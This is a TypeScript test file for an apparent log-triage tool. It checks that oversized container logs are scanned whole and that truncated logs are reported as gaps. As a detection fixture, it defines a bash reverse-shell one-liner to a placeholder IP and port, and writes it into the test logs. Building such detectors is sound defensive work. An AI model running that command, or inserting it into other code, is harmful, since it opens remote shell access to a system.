/**
 * Issue 23 item 2: a log is hunted whole, however big (a 305 MB log whose last line was a
 * reverse shell gave no finding when triage copied and hunted only the first 256 MiB), and a
 * copy a size limit cut shows in the verdict's gaps, not only in the manifest.
 */
import {
  closeSync,
  mkdirSync,
  mkdtempSync,
  openSync,
  rmSync,
  writeFileSync,
  writeSync,
} from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, describe, expect, it } from "vitest";
import { runCli } from "../../../src/cli/main.js";
import { safePathComponent } from "../../../src/evidence/paths.js";
import { judgeBundle } from "../../../src/judge/judge-bundle.js";
import { loadRuleSet } from "../../../src/judge/rule-set.js";
import { memoryIo } from "../../helpers/memory-io.js";
import { SnapshotBuilder } from "../../helpers/snapshot-builder.js";

const tmp = mkdtempSync(join(tmpdir(), "bk-judge-whole-"));
afterAll(() => rmSync(tmp, { recursive: true, force: true }));

const loaded = await loadRuleSet();
if (!loaded.ok) throw new Error(loaded.error.message);
const rules = loaded.value;
const SHELL = "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1";

function bundleWith(name: string, log: (file: string) => void): string {
  const dir = join(tmp, name);
  mkdirSync(join(dir, "containers", "web"), { recursive: true });
  writeFileSync(
    join(dir, "snapshot.json"),
    JSON.stringify(new SnapshotBuilder().container({ name: "web" }).build()),
  );
  log(join(dir, "containers", "web", "web-json.log"));
  return dir;
}

describe("judgeBundle hunts whole logs", () => {
  it("finds a reverse shell on the last line of a log larger than the old 256 MiB bound", async () => {
    const MiB = 1024 * 1024;
    const line = Buffer.from(`${"GET /static/app.js HTTP/1.1 200 ".padEnd(127, "x")}\n`);
    const block = Buffer.concat(Array(MiB / line.length).fill(line));
    const dir = bundleWith("big", (file) => {
      const fd = openSync(file, "w");
      for (let i = 0; i < 257; i++) writeSync(fd, block);
      writeSync(fd, `${SHELL}\n`);
      closeSync(fd);
    });
    const judged = await judgeBundle(dir, safePathComponent, { rules });
    const shell = judged.findings.find((f) => f.rule === "hunt.reverse-shell");
    expect(shell?.evidence.find((e) => e.line !== undefined)?.line).toBe(257 * (MiB / 128) + 1);
    expect(judged.logBytes).toBeGreaterThan(256 * MiB);
    expect(judged.gaps).toEqual([]);
  });
  it("says in the gaps which logs the manifest marks cut, and what a hunt bound left", async () => {
    const dir = bundleWith("cut", (file) => writeFileSync(file, `a\nb\n${SHELL}\n`));
    writeFileSync(
      join(dir, "manifest.json"),
      JSON.stringify({
        files: [{ path: "containers/web/web-json.log", truncated: true, note: "cut" }],
      }),
    );
    const judged = await judgeBundle(dir, safePathComponent, { rules, hunt: { maxBytes: 4 } });
    expect(judged.gaps).toEqual([
      {
        path: "containers/web/web-json.log",
        message: expect.stringContaining("the bundle holds only the start of this log"),
      },
      {
        path: "containers/web/web-json.log",
        message: expect.stringContaining("line 3: only the first 4 bytes were hunted"),
      },
    ]);
    // Live triage passes the cut files itself (the manifest is written after judging).
    const live = await judgeBundle(dir, safePathComponent, { rules, truncated: [] });
    expect(live.gaps).toEqual([]);
    expect(live.findings.map((f) => f.rule)).toContain("hunt.reverse-shell");
    // triage --bundle shows the cut in its JSON gaps and in its text.
    const m = memoryIo();
    expect(await runCli(["triage", "--json", "--bundle", dir], m.io)).not.toBe(2);
    expect(JSON.parse(m.stdout()).gaps).toEqual(
      expect.arrayContaining([
        {
          path: "containers/web/web-json.log",
          message: expect.stringContaining("its newest lines were not hunted"),
        },
      ]),
    );
    const t = memoryIo();
    await runCli(["triage", "--bundle", dir], t.io);
    expect(t.stdout()).toContain("not hunted");
  });
});
